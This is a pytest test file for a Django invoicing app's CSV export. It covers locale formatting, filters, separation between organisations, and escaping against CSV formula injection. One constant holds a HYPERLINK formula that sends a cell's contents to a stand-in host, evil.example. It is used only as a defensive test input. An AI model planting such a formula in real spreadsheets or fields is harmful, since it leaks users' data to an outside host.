"""The invoice list as CSV: its filters; amounts and dates as a spreadsheet reads them."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from tests.factories import InvoiceFactory

pytestmark = pytest.mark.django_db


def _rows(response, delimiter):
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")  # Excel reads accents only with the byte order mark
    return list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


@pytest.fixture
def invoices(organisation):
    # An issued invoice is frozen: its date is set when it is created, not after.
    big = InvoiceFactory(organisation=organisation, number="F-2026-000101",
                         issue_date=dt.date(2026, 11, 27), status="generated",
                         lines=[("Conseil", "1", "1891.00", "20")])  # fmt: skip
    InvoiceFactory(organisation=organisation)  # a draft
    return big


def test_french_csv_has_semicolons_decimal_commas_and_day_first_dates(
    settings, accountant_client, invoices
):
    settings.LANGUAGE_CODE = "fr"

    response = accountant_client.get(reverse("invoices:export"), {"status": "generated"})

    rows = _rows(response, ";")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert rows[0][:4] == ["Numéro", "Client", "Statut", "Date d'émission"]
    assert len(rows) == 2  # the filter applies: the draft is left out
    assert rows[1][0] == "F-2026-000101"
    assert rows[1][3] == "27/11/2026"
    assert rows[1][5:8] == ["1891,00", "378,20", "2269,20"]


def test_english_csv_has_commas_and_decimal_points(accountant_client, invoices):
    response = accountant_client.get(reverse("invoices:export"), {"q": "F-2026-000101"})

    rows = _rows(response, ",")
    assert rows[1][5:8] == ["1891.00", "378.20", "2269.20"]


def test_another_organisation_s_invoices_are_not_exported(other_accountant_client, invoices):
    response = other_accountant_client.get(reverse("invoices:export"))

    assert len(_rows(response, ",")) == 1  # the header only


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Atelier = Conseil", "Atelier = Conseil"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    from commbilling.spreadsheet import cell

    assert cell(value) == written


def test_numbers_keep_their_sign(settings):
    """Only text is guarded: a negative amount (a credit note) stays a number."""
    from decimal import Decimal

    from commbilling.spreadsheet import cell

    settings.LANGUAGE_CODE = "fr"
    assert cell(Decimal("-120.50")) == "-120,50"
    assert cell(-3) == "-3"


def test_a_customer_named_like_a_formula_is_exported_as_text(accountant_client, organisation):
    """CSV injection: a name typed as a formula must not run when the export is opened."""
    from tests.factories import CustomerFactory

    customer = CustomerFactory(organisation=organisation, legal_name=FORMULA)
    InvoiceFactory(organisation=organisation, customer=customer)

    rows = _rows(accountant_client.get(reverse("invoices:export")), ",")

    assert rows[1][1] == "'" + FORMULA
